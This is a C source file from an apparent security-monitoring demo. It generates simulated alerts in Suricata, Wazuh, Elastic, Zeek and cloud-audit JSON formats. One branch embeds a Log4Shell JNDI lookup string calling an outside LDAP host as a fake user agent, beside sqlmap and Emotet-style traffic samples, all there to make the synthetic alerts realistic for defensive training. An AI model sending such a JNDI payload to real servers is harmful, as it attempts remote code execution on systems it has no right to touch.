/* demo_alerts.c: one simulated alert as the JSON line its source would
 * write (Suricata EVE, Wazuh alerts.json, an Elastic Security signal, a
 * Zeek notice, the cloud audit feed), and the analysts' text templates. */
#include <inttypes.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "irk/jsonw.h"
#include "demo_impl.h"

/* ---- templates ------------------------------------------------------------- */

static const char *host_of(const struct demo_text *tx)
{
	return tx->host ? tx->host->name : tx->sc && tx->sc->host ? tx->sc->host->name : NULL;
}

static int small(const struct demo_text *tx, int lo, int hi)
{
	return tx->r ? demo_rng_range(tx->r, lo, hi) : (lo + hi) / 2;
}

/* The value of one placeholder into out; 0 when the name is unknown. */
static int expand_one(struct strbuf *out, const char *name, size_t n, const struct demo_text *tx)
{
	const struct demo_scen *sc = tx->sc;
	const struct demo_host *h = tx->host ? tx->host : sc ? sc->host : NULL;
	const char *v = NULL;

#define IS(s) (n == sizeof(s) - 1 && !memcmp(name, s, n))
	if (IS("host")) v = host_of(tx);
	else if (IS("ip")) v = h ? h->ip : NULL;
	else if (IS("ext")) v = sc && sc->ext[0] ? sc->ext : NULL;
	else if (IS("user")) v = sc ? sc->user : NULL;
	else if (IS("dom")) v = sc && sc->domain[0] ? sc->domain : NULL;
	else if (IS("file")) v = sc && sc->file[0] ? sc->file : NULL;
	else if (IS("proc")) v = sc && sc->proc[0] ? sc->proc : NULL;
	else if (IS("hash")) v = sc && sc->hash[0] ? sc->hash : NULL;
	else if (IS("url")) v = sc && sc->url[0] ? sc->url : NULL;
	else if (IS("bu")) v = h ? demo_unit_name(h->unit) : NULL;
	else if (IS("key")) v = tx->key;
	else if (IS("dup")) v = tx->dup;
	else if (IS("lead")) v = tx->lead;
	else if (IS("peer")) v = tx->peer ? tx->peer : sc && sc->nextra ? sc->extra[0]->name : NULL;
	else if (IS("eng")) { strbuf_printf(out, "%d", sc ? sc->engines : 0); return 1; }
	else if (IS("port")) { strbuf_printf(out, "%d", sc ? sc->port : 0); return 1; }
	else if (IS("n")) { strbuf_printf(out, "%lld", (long long)tx->n); return 1; }
	else if (IS("chg")) { strbuf_printf(out, "CHG%07d", sc ? sc->ticket : 0); return 1; }
	else if (IS("sd")) { strbuf_printf(out, "%d", small(tx, 2, 59)); return 1; }
	else if (IS("cnt")) { strbuf_printf(out, "%d", small(tx, 15, 240)); return 1; }
	else if (IS("hosts")) {
		if (!sc || !sc->nextra)
			return strbuf_puts(out, "?"), 1;
		for (int i = 0; i < sc->nextra; i++) {
			if (i)
				strbuf_puts(out, ", ");
			strbuf_puts(out, sc->extra[i]->name);
		}
		return 1;
	} else
		return 0;
#undef IS
	strbuf_puts(out, v ? v : "?");
	return 1;
}

void demo_expand(struct strbuf *out, const char *tpl, const struct demo_text *tx)
{
	const char *p = tpl;

	while (*p) {
		const char *open = strchr(p, '{'), *close;

		if (!open || !(close = strchr(open, '}'))) {
			strbuf_puts(out, p);
			return;
		}
		strbuf_add(out, p, (size_t)(open - p));
		if (!expand_one(out, open + 1, (size_t)(close - open - 1), tx))
			strbuf_add(out, open, (size_t)(close - open + 1));
		p = close + 1;
	}
}

/* ---- alert lines -------------------------------------------------------------- */

enum { TS_EVE, TS_WAZUH, TS_ECS, TS_PLAIN, TS_SYSLOG };

static void put_time(struct strbuf *out, int64_t t, int usec, int style)
{
	time_t tt = (time_t)t;
	struct tm tm;
	char b[40];

	gmtime_r(&tt, &tm);
	switch (style) {
	case TS_SYSLOG:
		strftime(b, sizeof b, "%b %e %H:%M:%S", &tm);
		strbuf_puts(out, b);
		return;
	default:
		strftime(b, sizeof b, "%Y-%m-%dT%H:%M:%S", &tm);
		strbuf_puts(out, b);
	}
	if (style == TS_EVE)
		strbuf_printf(out, ".%06d+0000", usec);
	else if (style == TS_WAZUH)
		strbuf_printf(out, ".%03d+0000", usec / 1000);
	else if (style == TS_ECS)
		strbuf_printf(out, ".%03dZ", usec / 1000);
	else
		strbuf_addc(out, 'Z');
}

static void kv_time(struct jsonw *w, const char *key, const struct demo_shot *a, int style)
{
	struct strbuf b = STRBUF_INIT;

	put_time(&b, a->t, a->usec, style);
	jsonw_kv_str(w, key, strbuf_str(&b));
	strbuf_free(&b);
}

/* key: the expanded template (skipped when tpl is NULL). */
static void kv_text(struct jsonw *w, const char *key, const char *tpl, const struct demo_shot *a,
		    struct demo_rng *r)
{
	struct demo_text tx = { a->sc, a->host, NULL, NULL, NULL, NULL, a->seq, r };
	struct strbuf b = STRBUF_INIT;

	if (!tpl)
		return;
	demo_expand(&b, tpl, &tx);
	jsonw_kv_str(w, key, strbuf_str(&b));
	strbuf_free(&b);
}

/* key: s, left out when s is NULL (sources omit what they do not know). */
static void kv_opt(struct jsonw *w, const char *key, const char *s)
{
	if (s)
		jsonw_kv_str(w, key, s);
}

static void kv_raw(struct jsonw *w, const char *key, const char *json)
{
	jsonw_key(w, key);
	jsonw_raw(w, json);
}

static void put_uuid(struct strbuf *out, struct demo_rng *r)
{
	uint64_t a = demo_rng_next(r), b = demo_rng_next(r);

	strbuf_printf(out, "%08x-%04x-4%03x-%04x-%012" PRIx64, (unsigned)(a >> 32),
		      (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xfff,
		      (unsigned)(0x8000 | ((b >> 48) & 0x3fff)), (uint64_t)(b & 0xffffffffffffULL));
}

static int host_is_windows(const struct demo_host *h)
{
	return h && (h->kind & (HK_WS | HK_LAPTOP | HK_WINSRV | HK_DC));
}

static void eve_alert(struct jsonw *w, const struct demo_shot *a, struct demo_rng *r)
{
	const struct demo_rule *ru = a->rule;
	const struct demo_scen *sc = a->sc;
	int dns = ru->proto_port == 53;

	kv_time(w, "timestamp", a, TS_EVE);
	jsonw_kv_int(w, "flow_id", (int64_t)(a->id & ((1ULL << 51) - 1)));
	jsonw_kv_str(w, "in_iface", "eth1");
	jsonw_kv_str(w, "event_type", "alert");
	kv_opt(w, "src_ip", a->src);
	jsonw_kv_int(w, "src_port", a->sport);
	kv_opt(w, "dest_ip", a->dst);
	jsonw_kv_int(w, "dest_port", a->dport);
	jsonw_kv_str(w, "proto", dns ? "UDP" : "TCP");
	jsonw_kv_int(w, "tx_id", 0);
	jsonw_key(w, "alert");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "action", "allowed");
	jsonw_kv_int(w, "gid", 1);
	kv_raw(w, "signature_id", ru->id);
	jsonw_kv_int(w, "rev", 2 + (int)(a->id % 5));
	kv_text(w, "signature", ru->name, a, r);
	jsonw_kv_str(w, "category", ru->cat);
	jsonw_kv_int(w, "severity", ru->level);
	if (ru->word) {
		jsonw_key(w, "metadata");
		jsonw_obj_begin(w);
		jsonw_key(w, "signature_severity");
		jsonw_arr_begin(w);
		jsonw_str(w, ru->word);
		jsonw_arr_end(w);
		jsonw_obj_end(w);
	}
	jsonw_obj_end(w);
	if (dns) {
		jsonw_key(w, "dns");
		jsonw_obj_begin(w);
		jsonw_key(w, "query");
		jsonw_arr_begin(w);
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "type", "query");
		jsonw_kv_str(w, "rrname", sc->domain);
		jsonw_kv_str(w, "rrtype", "A");
		jsonw_obj_end(w);
		jsonw_arr_end(w);
		jsonw_obj_end(w);
		jsonw_kv_str(w, "app_proto", "dns");
	} else if (a->dir == D_IN) {
		/* An attack on one of our web servers: the request is the evidence. */
		jsonw_key(w, "http");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "hostname", "shop.example.org");
		jsonw_kv_str(w, "url", sc->url[0] ? sc->url : "/");
		jsonw_kv_str(w, "http_user_agent", strstr(ru->name, "log4j") ?
			     "${jndi:ldap://198.51.100.9:1389/a}" : "sqlmap/1.7.2#stable (https://sqlmap.org)");
		jsonw_kv_str(w, "http_method", "GET");
		jsonw_kv_int(w, "status", 403);
		jsonw_obj_end(w);
		jsonw_kv_str(w, "app_proto", "http");
	} else if (a->dport == 443 && sc->domain[0]) {
		jsonw_key(w, "tls");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "sni", sc->domain);
		jsonw_kv_str(w, "version", "TLS 1.2");
		jsonw_obj_end(w);
		jsonw_kv_str(w, "app_proto", "tls");
	} else if (a->dport == 8080) {
		/* Emotet posts to a bare address. */
		jsonw_key(w, "http");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "hostname", a->dst);
		jsonw_kv_str(w, "url", "/");
		jsonw_kv_str(w, "http_user_agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
		jsonw_kv_str(w, "http_method", "POST");
		jsonw_kv_int(w, "status", 200);
		jsonw_obj_end(w);
		jsonw_kv_str(w, "app_proto", "http");
	}
}

static void wazuh_alert(struct jsonw *w, const struct demo_shot *a, struct demo_rng *r)
{
	const struct demo_rule *ru = a->rule;
	const struct demo_host *h = a->host;
	int windows = host_is_windows(h);
	char buf[64];
	struct strbuf log = STRBUF_INIT;
	const char *p = ru->cat;

	kv_time(w, "timestamp", a, TS_WAZUH);
	jsonw_key(w, "rule");
	jsonw_obj_begin(w);
	jsonw_kv_int(w, "level", ru->level);
	kv_text(w, "description", ru->name, a, r);
	jsonw_kv_str(w, "id", ru->id);
	jsonw_kv_int(w, "firedtimes", a->seq + 1);
	jsonw_kv_bool(w, "mail", ru->level >= 12);
	jsonw_key(w, "groups");
	jsonw_arr_begin(w);
	while (p && *p) {
		const char *comma = strchr(p, ',');
		size_t n = comma ? (size_t)(comma - p) : strlen(p);
		jsonw_strn(w, p, n);
		p = comma ? comma + 1 : NULL;
	}
	jsonw_arr_end(w);
	jsonw_obj_end(w);
	jsonw_key(w, "agent");
	jsonw_obj_begin(w);
	snprintf(buf, sizeof buf, "%03d", h ? (int)(h - demo_hosts) + 1 : 0);
	jsonw_kv_str(w, "id", buf);
	jsonw_kv_str(w, "name", h ? h->name : "wazuh-manager");
	kv_opt(w, "ip", h ? h->ip : NULL);
	jsonw_obj_end(w);
	jsonw_key(w, "manager");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "name", "wazuh-manager");
	jsonw_obj_end(w);
	snprintf(buf, sizeof buf, "%lld.%llu", (long long)a->t,
		 (unsigned long long)(a->id % 100000000));
	jsonw_kv_str(w, "id", buf);
	if (ru->log) {
		struct demo_text tx = { a->sc, h, NULL, NULL, NULL, NULL, a->seq, r };
		if (!windows) {
			put_time(&log, a->t, 0, TS_SYSLOG);
			strbuf_printf(&log, " %s ", h ? h->name : "wazuh-manager");
		}
		demo_expand(&log, ru->log, &tx);
		jsonw_kv_str(w, "full_log", strbuf_str(&log));
		strbuf_free(&log);
	}
	jsonw_key(w, "decoder");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "name", windows ? "windows_eventchannel" :
		     !strcmp(ru->id, "554") ? "syscheck_new_entry" :
		     !strcmp(ru->id, "87105") ? "json" : strstr(ru->cat, "sshd") ? "sshd" :
		     strstr(ru->cat, "sudo") ? "sudo" : "useradd");
	jsonw_obj_end(w);
	jsonw_key(w, "data");
	jsonw_obj_begin(w);
	if (windows) {
		jsonw_key(w, "win");
		jsonw_obj_begin(w);
		jsonw_key(w, "eventdata");
		jsonw_obj_begin(w);
		kv_opt(w, "targetUserName", a->user);
		kv_opt(w, "ipAddress", a->src);
		jsonw_obj_end(w);
		jsonw_obj_end(w);
	} else {
		kv_opt(w, "srcip", a->src);
		if (a->src) {
			snprintf(buf, sizeof buf, "%d", a->sport);
			jsonw_kv_str(w, "srcport", buf);
		}
		kv_opt(w, strstr(ru->cat, "authentication_success") || strstr(ru->cat, "sudo") ?
		       "dstuser" : "srcuser", a->user);
		if (!strcmp(ru->id, "87105")) {
			jsonw_key(w, "virustotal");
			jsonw_obj_begin(w);
			jsonw_kv_str(w, "found", "1");
			jsonw_kv_int(w, "positives", a->sc->engines);
			jsonw_kv_int(w, "total", 70);
			jsonw_key(w, "source");
			jsonw_obj_begin(w);
			jsonw_kv_str(w, "file", a->sc->file);
			jsonw_kv_str(w, "sha256", a->sc->hash);
			jsonw_obj_end(w);
			jsonw_obj_end(w);
		}
	}
	jsonw_obj_end(w);
	if (!strcmp(ru->id, "554") || !strcmp(ru->id, "87105")) {
		jsonw_key(w, "syscheck");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "path", a->sc->file);
		jsonw_kv_str(w, "event", "added");
		jsonw_kv_str(w, "sha256_after", a->sc->hash);
		jsonw_obj_end(w);
	}
	jsonw_kv_str(w, "location", windows ? "EventChannel" :
		     !strcmp(ru->id, "554") ? "syscheck" : "/var/log/auth.log");
}

static void ecs_alert(struct jsonw *w, const struct demo_shot *a, struct demo_rng *r)
{
	const struct demo_rule *ru = a->rule;
	const struct demo_scen *sc = a->sc;
	const struct demo_host *h = a->host;
	struct strbuf b = STRBUF_INIT;

	kv_time(w, "@timestamp", a, TS_ECS);
	jsonw_key(w, "ecs");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "version", "8.11.0");
	jsonw_obj_end(w);
	jsonw_key(w, "event");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "kind", "signal");
	put_uuid(&b, r);
	jsonw_kv_str(w, "id", strbuf_str(&b));
	strbuf_reset(&b);
	jsonw_key(w, "category");
	jsonw_arr_begin(w);
	jsonw_str(w, ru->cat);
	jsonw_arr_end(w);
	jsonw_key(w, "type");
	jsonw_arr_begin(w);
	jsonw_str(w, !strcmp(ru->cat, "file") ? "change" : "start");
	jsonw_arr_end(w);
	jsonw_kv_str(w, "module", "endpoint");
	jsonw_obj_end(w);
	jsonw_kv_str(w, "kibana.alert.severity", ru->word);
	jsonw_kv_int(w, "kibana.alert.risk_score", ru->level);
	kv_text(w, "kibana.alert.rule.name", ru->name, a, r);
	jsonw_kv_str(w, "kibana.alert.rule.rule_id", ru->id);
	kv_text(w, "message", ru->log, a, r);
	jsonw_key(w, "host");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "name", h->name);
	if (h->ip) {
		jsonw_key(w, "ip");
		jsonw_arr_begin(w);
		jsonw_str(w, h->ip);
		jsonw_arr_end(w);
	}
	jsonw_key(w, "os");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "family", host_is_windows(h) ? "windows" : "linux");
	jsonw_obj_end(w);
	jsonw_obj_end(w);
	if (a->user) {
		jsonw_key(w, "user");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "name", a->user);
		jsonw_obj_end(w);
	}
	if (sc->proc[0]) {
		jsonw_key(w, "process");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "name", sc->proc);
		strbuf_printf(&b, "C:\\Users\\%s\\AppData\\Local\\Temp\\%s", a->user ? a->user : "Public",
			      sc->proc);
		jsonw_kv_str(w, "executable", strbuf_str(&b));
		strbuf_reset(&b);
		jsonw_key(w, "hash");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "sha256", sc->hash);
		jsonw_obj_end(w);
		jsonw_key(w, "parent");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "name", "WINWORD.EXE");
		jsonw_obj_end(w);
		jsonw_obj_end(w);
	}
	if (sc->file[0] && !strcmp(ru->cat, "malware")) {
		jsonw_key(w, "file");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "path", sc->file);
		jsonw_key(w, "hash");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "sha256", sc->hash);
		jsonw_obj_end(w);
		jsonw_obj_end(w);
	}
	strbuf_free(&b);
}

static void zeek_alert(struct jsonw *w, const struct demo_shot *a, struct demo_rng *r)
{
	static const char b62[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
	const struct demo_rule *ru = a->rule;
	char buf[48];
	int conn = a->src && a->dst && a->dport;   /* about one connection */

	snprintf(buf, sizeof buf, "%lld.%06d", (long long)a->t, a->usec);
	kv_raw(w, "ts", buf);
	if (conn) {
		uint64_t x = a->id;
		buf[0] = 'C';
		for (int i = 1; i < 18; i++, x /= 62)
			buf[i] = b62[x % 62];
		buf[18] = '\0';
		jsonw_kv_str(w, "uid", buf);
		jsonw_kv_str(w, "id.orig_h", a->src);
		jsonw_kv_int(w, "id.orig_p", a->sport);
		jsonw_kv_str(w, "id.resp_h", a->dst);
		jsonw_kv_int(w, "id.resp_p", a->dport);
		jsonw_kv_str(w, "proto", "tcp");
	}
	jsonw_kv_str(w, "note", ru->id);
	kv_text(w, "msg", ru->name, a, r);
	kv_text(w, "sub", ru->log, a, r);
	kv_opt(w, "src", a->src);
	kv_opt(w, "dst", a->dst);
	if (conn)
		jsonw_kv_int(w, "p", a->dport);
	snprintf(buf, sizeof buf, "zeek-worker-%d", 1 + (int)(a->id % 4));
	jsonw_kv_str(w, "peer_descr", buf);
	jsonw_key(w, "actions");
	jsonw_arr_begin(w);
	jsonw_str(w, "Notice::ACTION_LOG");
	jsonw_arr_end(w);
	kv_raw(w, "suppress_for", "3600.0");
}

static void cloud_alert(struct jsonw *w, const struct demo_shot *a, struct demo_rng *r)
{
	const struct demo_rule *ru = a->rule;
	struct strbuf b = STRBUF_INIT;

	kv_time(w, "eventTime", a, TS_PLAIN);
	put_uuid(&b, r);
	jsonw_kv_str(w, "eventID", strbuf_str(&b));
	strbuf_free(&b);
	jsonw_kv_str(w, "feed", "cloud-audit");
	jsonw_key(w, "detection");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "id", ru->id);
	kv_text(w, "title", ru->name, a, r);
	jsonw_kv_str(w, "severity", ru->word);
	jsonw_kv_str(w, "category", ru->cat);
	jsonw_obj_end(w);
	jsonw_key(w, "resource");
	jsonw_obj_begin(w);
	jsonw_kv_str(w, "name", a->host->name);
	jsonw_kv_str(w, "type", !strncmp(a->host->name, "aws", 3) ? "aws-account" : "m365-tenant");
	jsonw_obj_end(w);
	kv_opt(w, "sourceIPAddress", a->src);
	if (a->user) {
		jsonw_key(w, "userIdentity");
		jsonw_obj_begin(w);
		jsonw_kv_str(w, "userName", a->user);
		jsonw_obj_end(w);
	}
}

void demo_alert_json(struct strbuf *out, const struct demo_shot *a, struct demo_rng *r)
{
	struct jsonw w;

	jsonw_init(&w, out, 0);
	jsonw_obj_begin(&w);
	switch (a->rule->format) {
	case FMT_EVE:   eve_alert(&w, a, r); break;
	case FMT_WAZUH: wazuh_alert(&w, a, r); break;
	case FMT_ECS:   ecs_alert(&w, a, r); break;
	case FMT_ZEEK:  zeek_alert(&w, a, r); break;
	default:        cloud_alert(&w, a, r); break;
	}
	jsonw_obj_end(&w);
}
